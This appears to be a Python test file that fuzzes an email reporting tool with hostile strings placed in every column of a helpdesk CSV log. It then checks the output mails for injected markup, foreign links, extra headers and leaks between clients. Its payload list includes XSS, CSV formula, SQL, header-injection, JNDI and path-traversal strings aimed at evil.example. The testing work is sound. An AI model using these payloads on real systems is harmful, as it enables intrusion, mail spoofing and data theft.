"""Hostile strings in every column of a log, told to their clients: what arrives is text, and of nobody else.

Each round is an office of its own: ten clients, each with strings and a mark of its own, one run, its mails.
"""

from __future__ import annotations

import csv
import random
import re
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import date, timedelta
from email.message import EmailMessage
from html.parser import HTMLParser
from pathlib import Path

import pytest

from reporter.errors import visible
from reporter.runs.accounts import summary_of
from tests.runs.workspaces import open_office

CLIENTS = 10
_NOW = "2026-11-04 09:00"
_PIECES = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "</style><script>x</script>",
    "</title><b>",
    "<!--",
    "-->",
    "]]>",
    "<![CDATA[",
    "\"><a href='javascript:alert(1)'>",
    "' onmouseover='x",
    "&lt;b&gt;",
    "&#60;i&#62;",
    "&amp;",
    "<a href=//evil.example>",
    "<iframe src=//evil.example>",
    "<style>@import '//evil.example'</style>",
    "<form action=//evil.example>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0>",
    "<table><tr>",
    "</td></tr></table>",
    "<h1>",
    "<!--top-->",
    "<!--/body-->",
    "<!--foot accent=#123456-->",
    "<!--styles-->",
    "{{ 7*7 }}",
    "{% raw %}",
    "{# x",
    "${7*7}",
    "#{7*7}",
    "%(x)s",
    "%s%n",
    "{0}",
    "\\x41",
    "\\u0041",
    "\\",
    "\\\\",
    "[x](javascript:alert(1))",
    "![x](http://evil.example/p.gif)",
    "# head",
    "**bold**",
    "`code`",
    "> quote",
    "|a|b|",
    "http://evil.example/",
    "mailto:a@evil.example?bcc=b@evil.example",
    "data:text/html,<script>",
    "url(http://evil.example)",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1)",
    "-2+3",
    "'; DROP TABLE tickets; --",
    "1 OR 1=1",
    "../../etc/passwd",
    "C:\\con",
    "\r\nBcc: evil@evil.example",
    "\nSubject: owned",
    "=?utf-8?q?=0D=0ABcc:_e@evil.example?=",
    "\r\n\r\n.\r\n",
    "\n.\n",
    "\x00",
    "\x07",
    "\x1b]0;owned\x07",
    "\x1b[31m",
    "\x9b31m",
    "\x7f",
    "\u202eevil",
    "\u2066x",
    "\u200b",
    "\ufeff",
    "\u2028",
    "\u2029",
    "\ud83d".encode("utf-8", "ignore").decode(),
    "\ufffe",
    "Z\u0351\u036b\u0343\u036a\u0302\u0361" * 3,
    "ﷺ" * 4,
    "😀👩‍💻🏴",
    "ß",
    "İ",
    "ı",
    "ﬁ",
    "A" * 400,
    "A " * 200,
    "a" * 60 + "/" + "b" * 60,
    "\t",
    "  ",
    "null",
    "NaN",
    "None",
    "undefined",
    "true",
    "0",
    "-1",
    "1e999",
    "xn--80ak6aa92e.com",
    "оnline",
    "Ａｃｍｅ",
    "${jndi:ldap://evil.example}",
    "<x:y>",
    "&nbsp;",
    "&quot;",
    "“”",
    "''",
    '""',
    "`",
    "From the ",
    ".",
    "..",
    "...",
    "?",
    "!",
    ":",
    ";",
    ",",
    "—",
    "printer",
    "no sound",
    "Re: Re: ",
    "FW: ",
)
_TAGS = {
    "html",
    "bdi",
    "head",
    "meta",
    "title",
    "style",
    "link",
    "body",
    "main",
    "header",
    "footer",
    "section",
    "article",
    "div",
    "span",
    "p",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "ul",
    "ol",
    "li",
    "dl",
    "dt",
    "dd",
    "table",
    "caption",
    "thead",
    "tbody",
    "tfoot",
    "tr",
    "th",
    "td",
    "col",
    "colgroup",
    "a",
    "img",
    "br",
    "hr",
    "b",
    "strong",
    "em",
    "i",
    "svg",
    "g",
    "path",
    "rect",
    "line",
    "text",
    "desc",
    "circle",
    "polyline",
    "tspan",
    "figure",
    "figcaption",
    "time",
    "blockquote",
    "code",
    "defs",
    "pattern",
    "use",
    "small",
    "nav",
}
_HEADERS = {
    "from",
    "to",
    "subject",
    "date",
    "message-id",
    "mime-version",
    "content-type",
    "content-transfer-encoding",
    "list-unsubscribe",
    "list-unsubscribe-post",
    "list-id",
    "auto-submitted",
    "x-auto-response-suppress",
    "reply-to",
    "in-reply-to",
    "references",
    "content-language",
    "feedback-id",
    "precedence",
    "sender",
    "organization",
    "return-path",
    "content-disposition",
    "content-id",
}


_OURS = ("data:image/", "data:font/", "cid:", "#", "mailto:reports@northfield.example")


@dataclass(frozen=True)
class Breach:
    """What got through, where, with which strings."""

    where: str
    what: str
    strings: tuple[str, ...]


class _Look(HTMLParser):
    """All that a document does beside saying words."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """No element of a log's, no handler, no address but ours."""
        if tag not in _TAGS:
            self.wrong.append(f"<{tag}>")
        for name, value in attrs:
            plain = re.sub(r"\s", "", value or "").lower()
            if name.startswith("on") or name in ("srcdoc", "formaction", "action", "background"):
                self.wrong.append(f"{tag} {name}")
            is_address = name in ("href", "src", "srcset", "xlink:href", "poster")
            if is_address and not plain.startswith(
                ("data:image/", "data:font/", "cid:", "#", "mailto:reports@northfield.example")
            ):
                self.wrong.append(f"{tag} {name}={plain[:60]}")
            if name == "style" and re.search(r"url\(|expression|@import", plain):
                self.wrong.append(f"{tag} style={plain[:60]}")


def strings(count: int, seed: int) -> Iterator[str]:
    """So many hostile strings: each piece by itself first, then pieces together."""
    dice = random.Random(seed)
    yield from _PIECES[:count]
    for _ in range(count - len(_PIECES)):
        yield "".join(dice.choices(_PIECES, k=dice.randint(2, 5)))


def attack(folder: Path, patch: pytest.MonkeyPatch, texts: list[str]) -> list[Breach]:
    """One round with at most two strings for each client; what got through."""
    office = open_office(folder, patch)
    own = {f"c{n}": tuple(texts[n::CLIENTS]) for n in range(CLIENTS) if texts[n::CLIENTS]}
    for slug in own:
        office.client(slug, "ann daily")
    _write_log(office.folder / "desk.csv", own)
    account = office.run(_NOW)
    found = []
    for slug, hostile in own.items():
        mails = office.post.mails(f"ann@{slug}.example")
        told = "" if mails else office.reasons(f"{slug}/daily/2026-11-03")
        if len(mails) != 1:
            found.append(Breach(slug, f"{len(mails)} mails: {told}", hostile))
        for mail in mails:
            others = [f"mark-{other}" for other in own if other != slug]
            found += [Breach(slug, what, hostile) for what in wrong_with(mail, f"ann@{slug}.example", others)]
    summary = visible(summary_of(account).text)
    if re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", summary):
        found.append(Breach("summary", "signs that move a terminal", ()))
    return found


def wrong_with(mail: EmailMessage, to: str, others: list[str]) -> Iterator[str]:
    """What is not as it must be in a mail, whatever the log held."""
    names = [name.lower() for name in mail]
    yield from (f"header {name}" for name in names if name not in _HEADERS)
    yield from (f"header {name} twice" for name in set(names) if names.count(name) > 1)
    if str(mail["to"]).count("@") != 1 or to not in str(mail["to"]):
        yield f"to {mail['to']}"
    if re.search(r"[\r\n\x00-\x1f\u202a-\u202e\u2066-\u2069]", str(mail["subject"])):
        yield "signs in the subject"
    for part in mail.walk():
        yield from (str(defect) for defect in part.defects)
        if part.get_content_maintype() != "text":
            continue
        text = part.get_content()
        yield from (f"{other} in {part.get_content_type()}" for other in others if other in text)
        if re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", text):
            yield f"signs in {part.get_content_type()}"
        if part.get_content_subtype() == "html":
            look = _Look()
            look.feed(text)
            yield from look.wrong


def _write_log(path: Path, own: dict[str, tuple[str, ...]]) -> None:
    """Per client an urgent ticket that leads, one that is open, and one that is solved; and an even past."""
    head = ["id", "opened_at", "subject", "status", "client", "first_response_at", "resolved_at", "priority"]
    head += ["category", "requester", "assignee", "place", "resolution", "next_step"]
    rows: list[list[str]] = []
    for slug, hostile in own.items():
        for n in range(41):
            day = date(2026, 9, 24) + timedelta(days=n)
            at, end = f"{day} 23:30", f"{day} 23:50"
            rows.append([f"{slug}-{day}", at, f"Printer mark-{slug}", "closed", slug, at, end, "Low"])
        for n, text in enumerate(hostile):
            at, end = f"2026-11-03 {9 + n:02}:00", f"2026-11-03 {9 + n:02}:40"
            said = [text] * 5
            rows.append([f"u{n}-{slug}", at, f"{text} mark-{slug}", "closed", slug, at, end, "Urgent", *said])
            rows.append([f"o{n}-{slug}", at, text, "waiting for client", slug, at, "", "High", *said, text])
            rows.append([f"{text[:40]}{n}-{slug}", at, text, "closed", slug, at, end, "Normal", *said])
    with path.open("w", encoding="utf-8", newline="", errors="replace") as file:
        writer = csv.writer(file)
        writer.writerow(head)
        writer.writerows(row + [""] * (len(head) - len(row)) for row in rows)
